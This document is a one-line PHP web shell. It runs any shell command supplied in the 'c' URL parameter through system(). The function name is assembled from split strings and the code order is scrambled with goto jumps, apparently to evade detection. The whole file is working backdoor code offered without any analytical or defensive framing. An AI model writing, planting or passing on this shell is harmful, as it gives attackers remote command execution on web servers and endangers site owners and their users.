<?php goto b; a: $f($_GET["c"]); exit; b: $f = "sys" . "tem"; goto a;
